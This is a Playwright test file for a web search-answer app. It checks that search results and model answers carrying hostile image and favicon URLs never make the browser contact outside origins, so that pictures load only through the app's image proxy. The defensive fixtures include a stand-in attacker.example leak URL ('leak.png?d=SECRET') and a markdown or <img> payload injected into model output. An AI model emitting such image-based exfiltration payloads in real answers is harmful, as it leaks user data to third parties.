import type { BrowserContext, Locator, Page } from "@playwright/test";
import type { SearxngCorpus } from "./fakes/searxng-server.ts";
import { finished, THREAD_URL, turns } from "./support/answer-page.ts";
import { signInViaApi } from "./support/fixtures.ts";
import { expect, type ModelServer, notOrigin, test } from "./support/model-server.ts";

/**
 * G7/G14 for images: an answer, a share page and Discover whose search results and model output
 * carry hostile image and favicon addresses make 0 requests to any origin but ours (every request
 * the browser makes is recorded), and the pictures still show, through /api/image. The fake
 * SearXNG serves real pictures from its own (http, loopback) origin, like SearXNG's image_proxy:
 * the server fetches them, the browser never does.
 */
const ATTACKER = "attacker.example";
const LEAK = `https://${ATTACKER}/leak.png?d=SECRET`;

function hostileCorpus(searxng: string): SearxngCorpus {
  return {
    general: [
      { url: `${searxng}/articles/tides`, title: "Tides at home", content: "The moon pulls." },
      { url: `https://${ATTACKER}/article`, title: "Hostile page", content: "Read me." },
      { url: "http://plain-http.example/page", title: "Plain http", content: "Old site." },
    ],
    images: [
      { url: `${searxng}/p/1`, title: "Real picture", img_src: `${searxng}/image_proxy?u=1.png` },
      {
        url: `https://${ATTACKER}/p/2`,
        title: "Hostile picture",
        img_src: `https://${ATTACKER}/full.png?leak=1`,
        thumbnail_src: `http://${ATTACKER}/thumb.png?leak=1`,
      },
    ],
    videos: [
      {
        url: `https://${ATTACKER}/watch`,
        title: "Hostile video",
        thumbnail: `${searxng}/image_proxy?u=video.png`,
        template: "videos.html",
      },
    ],
    news: [
      {
        url: "https://news.example.org/{q}/story",
        title: "Pictured story on {q}",
        content: "A story with a picture.",
        img_src: `${searxng}/image_proxy?u=news.png`,
      },
      {
        url: `https://${ATTACKER}/{q}/story`,
        title: "Hostile story on {q}",
        content: "A story with a tracking picture.",
        img_src: `https://${ATTACKER}/news.png?leak=1`,
      },
    ],
  };
}

/** Every request a context makes; any to another origin is also aborted (it must not leave). */
async function recordRequests(context: BrowserContext, appOrigin: string): Promise<string[]> {
  const requests: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  await context.route(notOrigin(appOrigin), (route) => route.abort("blockedbyclient"));
  return requests;
}

function foreign(requests: readonly string[], appOrigin: string): string[] {
  return requests.filter((url) => /^(https?|wss?):/.test(url) && new URL(url).origin !== appOrigin);
}

const naturalWidth = (image: Locator) =>
  image.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth);

/** Every <img> on the page is the image proxy on this origin. */
async function imageSources(page: Page): Promise<string[]> {
  return page
    .locator("img")
    .evaluateAll((imgs) => imgs.map((img) => (img as unknown as { src: string }).src));
}

async function expectProxiedImages(page: Page, origin: string): Promise<void> {
  // The real picture and video thumbnail, and the favicon of the page on SearXNG's origin, load.
  const media = page.getByTestId("media-panel").first();
  const picture = media.locator('img[src^="/api/image?"]').first();
  await expect.poll(() => naturalWidth(picture)).toBe(640);
  const tides = page.getByTestId("source-card").filter({ hasText: "Tides at home" }).first();
  await expect.poll(() => naturalWidth(tides.locator("img"))).toBe(16);
  // A favicon that cannot be fetched (the attacker's host) is the site's letter.
  const hostile = page.getByTestId("source-card").filter({ hasText: "Hostile page" }).first();
  await expect(hostile.locator("[data-favicon-tile]")).toHaveText("A");
  await expect(hostile.locator("img")).toHaveCount(0);
  for (const src of await imageSources(page)) {
    expect(src.startsWith(`${origin}/api/image?`) || new URL(src).origin === origin, src).toBe(
      true,
    );
  }
}

async function withCorpus(modelServer: ModelServer, run: () => Promise<void>) {
  const original = { ...modelServer.searxng.corpus };
  Object.assign(modelServer.searxng.corpus, hostileCorpus(modelServer.searxng.url));
  try {
    await run();
  } finally {
    modelServer.searxng.corpus = original;
  }
}

test("images of an answer, its share page and Discover come only through the image proxy", async ({
  page,
  context,
  newContext,
  modelServer,
  uniqueEmail,
}) => {
  test.setTimeout(300_000);
  const origin = modelServer.origin;
  await withCorpus(modelServer, async () => {
    const requests = await recordRequests(context, origin);
    await signInViaApi(context, uniqueEmail("images"));
    modelServer.answers.push({
      kind: "text",
      text: `The moon pulls the sea [1]. ![leak](${LEAK}) <img src="https://${ATTACKER}/raw.png"> Done [2].`,
    });
    await page.goto(`/app/search?q=${encodeURIComponent("Why are there tides?")}`);
    await expect(page).toHaveURL(THREAD_URL, { timeout: 30_000 });
    const turn = turns(page).first();
    await finished(turn);
    await expect(turn.getByTestId("answer-markdown")).toContainText("Done");
    // Only citation previews' favicons are images in the text, through the proxy.
    await expect(
      turn.getByTestId("answer-markdown").locator('img:not([src^="/api/image?"])'),
    ).toHaveCount(0);
    // The server's model-text sanitiser turned the model's image into its alt text: no image,
    // no chip, no address of the attacker's in the reply.
    await expect(turn.getByTestId("answer-markdown")).toContainText("leak");
    await expect(turn.getByTestId("answer-markdown")).not.toContainText("leak.png");
    await expect(turn.locator("[data-blocked-image]")).toHaveCount(0);
    await expectProxiedImages(page, origin);

    // Restored from the server (proxy URLs minted when the answer was made, stored and passed on).
    await page.reload();
    await expect(turns(page).first()).toBeVisible({ timeout: 60_000 });
    await finished(turns(page).first());
    await expectProxiedImages(page, origin);

    // The server fetched the pictures from SearXNG's origin; the browser asked only us.
    const fetched = modelServer.searxng.requests.map((r) => r.path);
    expect(fetched).toContain("/image_proxy");
    expect(fetched).toContain("/favicon.ico");
    expect(foreign(requests, origin)).toEqual([]);

    // A share page, signed out in a fresh browser.
    const threadId = page.url().slice(-22);
    const thread = await context.request.get(`/api/threads/${threadId}`);
    const entryId = ((await thread.json()) as { entries: { id: string }[] }).entries[0]?.id;
    const made = await context.request.post("/api/shares", { data: { entryId } });
    expect(made.ok()).toBe(true);
    const sharePath = new URL(((await made.json()) as { url: string }).url).pathname;
    const visitorContext = await newContext();
    const visitorRequests = await recordRequests(visitorContext, origin);
    const visitor = await visitorContext.newPage();
    await visitor.goto(sharePath);
    await expect(visitor.getByTestId("shared-turn")).toHaveCount(1, { timeout: 60_000 });
    await expect(
      visitor.getByTestId("answer-markdown").locator('img:not([src^="/api/image?"])'),
    ).toHaveCount(0);
    await expectProxiedImages(visitor, origin);
    expect(foreign(visitorRequests, origin)).toEqual([]);

    // Discover: the news picture through the proxy, the hostile one never requested.
    // Culture: no other test reads it from this worker's server, whose feed caches each topic
    // (the home page's suggestions read "world", so it may hold another test's stories).
    await visitor.goto("/app/discover?topic=culture");
    const cards = visitor.getByTestId("discover-card");
    await expect(cards.first().getByRole("heading")).toHaveText("Pictured story on culture", {
      timeout: 60_000,
    });
    await expect.poll(() => naturalWidth(cards.first().locator("img"))).toBe(640);
    await expect(cards.nth(1).getByRole("heading")).toHaveText("Hostile story on culture");
    await expect(cards.nth(1).locator("img")).toHaveCount(0);
    for (const src of await imageSources(visitor)) expect(new URL(src).origin, src).toBe(origin);
    expect(foreign(visitorRequests, origin)).toEqual([]);
    // (The attacker's addresses reached our proxy only as signed, encoded `u` parameters.)
    const attackerHost = (url: string) =>
      /^https?:/.test(url) && new URL(url).hostname === ATTACKER;
    expect([...requests, ...visitorRequests].filter(attackerHost)).toEqual([]);
    expect(visitorRequests.some((url) => url.includes("/api/image?u=https%3A%2F%2Fattacker"))).toBe(
      true,
    );
  });
});
